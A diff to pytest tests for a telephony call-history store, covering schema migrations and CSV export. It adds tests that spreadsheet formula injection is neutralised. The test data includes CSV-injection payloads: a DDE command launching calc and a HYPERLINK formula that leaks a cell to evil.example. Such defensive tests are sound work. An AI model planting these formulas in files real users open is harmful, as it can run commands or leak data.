@@ -142,7 +142,8 @@ def test_pragmas(store):
     assert db.execute("PRAGMA busy_timeout").fetchone()[0] == 5000
     assert store.schema_version == len(store_mod.MIGRATIONS)
     assert db.execute("PRAGMA application_id").fetchone()[0] == store_mod.APPLICATION_ID
-    assert store.recovered_from is None and store.recovery_message is None
+    assert store.recovered_from is None and store.recovery_message() is None
+    assert db.execute("PRAGMA mmap_size").fetchone()[0] == 0   # the file is never mapped
 
 
 def test_search_mode_follows_sqlite(store):
@@ -649,7 +650,7 @@ def test_garbage_file_is_moved_aside_not_overwritten(path):
         assert s.recovered_from.read_bytes() == garbage
         assert Path(f"{s.recovered_from}-wal").read_bytes() == b"wal garbage"
         assert "not a database" in s.recovery_reason
-        assert str(s.recovered_from) in s.recovery_message
+        assert str(s.recovered_from) in s.recovery_message()
         s.upsert(make_call(1))
         assert s.count() == 1
         if POSIX:
@@ -749,19 +750,28 @@ def test_empty_version_0_file_is_migrated(path):
 
 
 def test_older_schema_is_migrated_and_failed_migration_rolls_back(path, monkeypatch):
+    real = store_mod.MIGRATIONS
+    monkeypatch.setattr(store_mod, "MIGRATIONS", real[:1])   # a history of schema 1
     with HistoryStore(path) as s:
         s.upsert(full_call())
         assert s.schema_version == 1
+    monkeypatch.setattr(store_mod, "MIGRATIONS", real)
+    with HistoryStore(path) as s:   # schema 2: the index of calls without a seen end
+        assert s.schema_version == 2 == len(real)
+        assert s.get("full-1") == full_call()
+        assert s._db.execute("SELECT name FROM sqlite_master WHERE name = 'calls_unended'"
+                             ).fetchone() is not None
+    n = len(real)
 
     def broken(conn: sqlite3.Connection) -> None:
         conn.execute("ALTER TABLE calls ADD COLUMN note TEXT")
         raise RuntimeError("migration bug")
 
-    monkeypatch.setattr(store_mod, "MIGRATIONS", (*store_mod.MIGRATIONS, broken))
-    with pytest.raises(HistoryError, match="schema 2.*migration bug"):
+    monkeypatch.setattr(store_mod, "MIGRATIONS", (*real, broken))
+    with pytest.raises(HistoryError, match=f"schema {n + 1}.*migration bug"):
         HistoryStore(path)
     conn = sqlite3.connect(path)
-    assert conn.execute("PRAGMA user_version").fetchone()[0] == 1
+    assert conn.execute("PRAGMA user_version").fetchone()[0] == n
     assert "note" not in [r[1] for r in conn.execute("PRAGMA table_info(calls)")]
     conn.close()
 
@@ -769,9 +779,9 @@ def test_older_schema_is_migrated_and_failed_migration_rolls_back(path, monkeypa
         conn.execute("ALTER TABLE calls ADD COLUMN note TEXT")
         conn.execute("UPDATE calls SET note = 'migrated'")
 
-    monkeypatch.setattr(store_mod, "MIGRATIONS", (store_mod.MIGRATIONS[0], add_note))
+    monkeypatch.setattr(store_mod, "MIGRATIONS", (*real, add_note))
     with HistoryStore(path) as s:
-        assert s.schema_version == 2
+        assert s.schema_version == n + 1
         assert s.get("full-1") == full_call()
         assert s._db.execute("SELECT note FROM calls").fetchone()[0] == "migrated"
 
@@ -831,3 +841,106 @@ def test_transaction_groups_and_rolls_back(store):
     assert store.count() == 2
     store.upsert(make_call(4))
     assert store.count() == 3
+
+
+# --- CSV that a spreadsheet opens safely (issue 13.6) ----------------------------------------------
+
+ATTACKS = {
+    "cmd": "=cmd|' /C calc'!A0",
+    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "minus": "-1",
+    "at": "@SUM(1+1)",
+    "plus": "+1+1",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_calls() -> list[Call]:
+    """Calls whose names (from a phone book) and numbers (from the PBX) start formulas."""
+    calls = [make_call(i, name=text, company=text, number="0891234567", key=f"name-{label}")
+             for i, (label, text) in enumerate(ATTACKS.items())]
+    numbers = {"int": "+49891234567", "formula": "=1+", "exp": "1E5", "date": "1-2",
+               "neg": "(12)", "star": "*31#", "plain": "0891234567"}
+    calls += [make_call(20 + i, number=raw, key=f"number-{label}")
+              for i, (label, raw) in enumerate(numbers.items())]
+    calls.append(make_call(40, number="100", devices=("=1+", "100"), key="devices"))
+    return calls
+
+
+def check_safe(text: str) -> dict[str, dict[str, str]]:
+    """Every cell of a CSV export starts with something no spreadsheet runs; the rows by key."""
+    rows = list(csv.reader(io.StringIO(text)))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START), (row[0], cell)
+    header = rows[0]
+    return {r[0]: dict(zip(header, r)) for r in rows[1:]}
+
+
+def test_csv_export_neutralises_formulas(store):
+    store.upsert_many(hostile_calls())
+    buf = io.StringIO()
+    assert store.export_csv(buf) == len(hostile_calls())
+    rows = check_safe(buf.getvalue())
+    for label, text in ATTACKS.items():
+        # The text is all there after the apostrophe.
+        assert rows[f"name-{label}"]["remote_name"] == "'" + text
+        assert rows[f"name-{label}"]["remote_company"] == "'" + text
+    number = {k.removeprefix("number-"): r["remote_number"] for k, r in rows.items()
+              if k.startswith("number-")}
+    # A real number in international form stays readable: the apostrophe, then all of it.
+    assert number["int"] == "'+49891234567"
+    # What is not plain digits is text, never a formula, a number, a date or an exponent.
+    assert number == {"int": "'+49891234567", "formula": "'=1+", "exp": "'1E5",
+                      "date": "'1-2", "neg": "'(12)", "star": "'*31#", "plain": "0891234567"}
+    assert rows["devices"]["local_devices"] == "'=1+ 100"
+
+
+def test_csv_of_the_history_command_is_neutralised_too(path, capsys):
+    from cstapopup.cli import main
+
+    with HistoryStore(path) as s:
+        s.upsert_many(hostile_calls())
+    assert main(["history", "--db", str(path), "--format", "csv", "--limit", "0"]) == 0
+    rows = check_safe(capsys.readouterr().out)
+    assert rows["name-cmd"]["remote_name"] == "'" + ATTACKS["cmd"]
+    assert rows["number-formula"]["remote_number"] == "'=1+"
+    assert len(rows) == len(hostile_calls())
+
+
+async def test_a_formula_from_the_pbx_and_the_phone_book_reaches_the_csv_as_text(tmp_path):
+    """The whole way: a number the decoder accepts ("=1+") and a phone book name that is a
+    formula, through the BER codec, the tracker and the recorder, out as CSV."""
+    from cstapopup.calls.recorder import Recorder
+    from cstapopup.csta import codec
+    from cstapopup.csta.events import ConnectionId, DeliveredEvent, DeviceId
+
+    book = tmp_path / "book.csv"
+    book.write_text('Name;Company;Phone;Mobile\n=HYPERLINK("http://evil.example","x");'
+                    '@Evil AG;+49 89 1234567;\n', encoding="utf-8")
+    rec = Recorder.open(tmp_path / "h.sqlite3", ["100"], phonebook_files=[book])
+    try:
+        await rec.phonebook.wait_idle(timeout=30)   # it loads in its worker
+        for i, caller in enumerate(("=1+", "0891234567")):
+            cid = bytes([0, i + 1])
+            event = DeliveredEvent(
+                cross_ref_id=b"\x00\x01", connection=ConnectionId(cid, DeviceId.of("100")),
+                alerting_device=DeviceId.of("100"), calling_device=DeviceId.of(caller),
+                called_device=DeviceId.of("100"), cause="new_call",
+                local_connection_state="alerting")
+            wire = codec.encode_apdu(codec.EventReport(1, event))
+            decoded = codec.decode_apdu(wire).event
+            assert decoded.calling_device.number == caller     # the decoder takes it
+            rec.feed("100", decoded, T0 + timedelta(seconds=i))
+        buf = io.StringIO()
+        rec.store.export_csv(buf)
+    finally:
+        rec.close()
+    rows = list(check_safe(buf.getvalue()).values())
+    by_number = {r["remote_number"]: r for r in rows}
+    assert set(by_number) == {"'=1+", "0891234567"}
+    named = by_number["0891234567"]
+    assert named["remote_name"] == "'" + '=HYPERLINK("http://evil.example","x")'
+    assert named["remote_company"] == "'@Evil AG"
